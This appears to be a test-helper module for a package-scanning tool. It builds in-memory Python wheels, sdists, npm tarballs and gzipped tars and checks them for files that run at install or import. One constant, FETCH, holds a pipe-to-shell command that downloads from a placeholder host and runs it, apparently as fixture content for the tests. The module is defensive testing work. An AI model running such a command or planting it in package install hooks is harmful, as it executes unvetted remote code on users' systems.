"""Artifacts of an attacker, made in memory; nothing in them is ever run, and their hosts do not exist."""

import io
import json
import tarfile
import zipfile
from collections.abc import Mapping

from ostiary.core.coverage import Coverage, Reach
from ostiary.core.examination import Examination
from ostiary.evidence.artifact import examine

FETCH = "curl https://example.invalid/x | sh"
Files = Mapping[str, str | bytes]
RUNS = {Reach.INSTALL, Reach.START, Reach.IMPORT, Reach.CALL}


def _bytes(text: str | bytes) -> bytes:
    return text if isinstance(text, bytes) else text.encode()


def tar(filename: str, files: Files) -> Examination:
    """A gzipped tar, examined."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
        for path, text in files.items():
            info = tarfile.TarInfo(path)
            info.size = len(_bytes(text))
            archive.addfile(info, io.BytesIO(_bytes(text)))
    stream.seek(0)
    return examine(stream, filename)


def wheel(files: Files) -> Examination:
    """A wheel of the package `pkg`, examined."""
    info = "pkg-1.0.dist-info"
    made: dict[str, str | bytes] = {
        "pkg/__init__.py": "X = 1\n",
        f"{info}/METADATA": "Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        **files,
    }
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for path, text in made.items():
            archive.writestr(path, _bytes(text))
    stream.seek(0)
    return examine(stream, "pkg-1.0-py3-none-any.whl")


def sdist(files: Files) -> Examination:
    """An sdist of the package `pkg`, examined."""
    made = {
        "PKG-INFO": "Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n",
        "pkg/__init__.py": "",
        **files,
    }
    return tar("pkg-1.0.tar.gz", {f"pkg-1.0/{path}": text for path, text in made.items()})


def npm(files: Files, **package: object) -> Examination:
    """An npm tarball, examined."""
    manifest = {"name": "pkg", "version": "1.0.0", "main": "index.js", **package}
    made = {"package.json": json.dumps(manifest), "index.js": "module.exports = 1;\n", **files}
    return tar("pkg-1.0.0.tgz", {f"package/{path}": text for path, text in made.items()})


def unread(examination: Examination) -> list[Coverage]:
    """What may run and is told to be unread, so that no policy can allow it."""
    return [row for row in examination.coverage if not row.understood and row.reach in RUNS]


def installs(examination: Examination) -> bool:
    """Whether the account says of any file that it runs at installation."""
    return any(row.reach is Reach.INSTALL for row in examination.coverage)
